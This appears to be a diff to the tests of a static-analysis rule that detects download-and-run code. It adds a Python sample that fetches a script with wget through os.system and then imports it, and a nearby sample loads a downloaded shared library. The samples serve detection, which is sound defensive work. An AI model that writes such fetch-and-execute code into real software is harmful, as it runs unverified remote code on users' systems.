@@ -35,6 +35,12 @@ export const downloadAndRun: Rule = {
                                 ^^^^^^^^^^^^^^^ download-and-run
     `,
     python`
+      import os
+      os.system("wget -q https://example.com/plots.py")
+      import plots
+             ^^^^^ download-and-run
+    `,
+    python`
       import ctypes
       from huggingface_hub import hf_hub_download
       kernel = hf_hub_download("org/kernels", "fast.so")
